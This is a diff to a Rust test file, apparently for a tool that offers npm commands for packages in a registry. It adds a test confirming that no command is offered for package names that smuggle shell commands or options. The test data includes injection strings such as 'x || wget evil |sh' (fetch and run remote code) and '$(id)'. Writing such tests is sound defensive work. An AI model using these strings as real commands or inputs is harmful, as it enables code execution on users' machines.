@@ -21,6 +21,20 @@ fn commands_mean_the_package_and_nothing_else_to_a_shell() {
     assert_eq!(commands("-x", true)[0], "npm install '-x'");
 }
 
+/// A link leads to the page of any name, and people copy what stands there.
+#[test]
+fn what_is_offered_of_a_name_that_is_not_held_asks_for_it_and_does_nothing_else() {
+    let base = BaseUrl::parse("http://[::1]:5984/a;b").unwrap();
+    let command = |name: &str| asking(&name.parse().unwrap(), &base);
+    let ui = "npm view @acme/ui --registry 'http://[::1]:5984/a;b/'";
+    assert_eq!(command("@acme/ui").as_deref(), Some(ui));
+    for odd in
+        ["x || wget evil |sh", "x;id", "it's$(x)", "$(id)", "x&y", "-g", "--userconfig", "_x"]
+    {
+        assert_eq!(command(odd), None, "{odd}");
+    }
+}
+
 #[test]
 fn a_latest_that_is_not_the_highest_is_marked() {
     let two = r#"{"dist-tags":{"latest":"1.0.0","old":"1.0.0"},"versions":{"1.0.0":{},"2.0.0":{},"3.0.0-rc.1":{}}}"#;
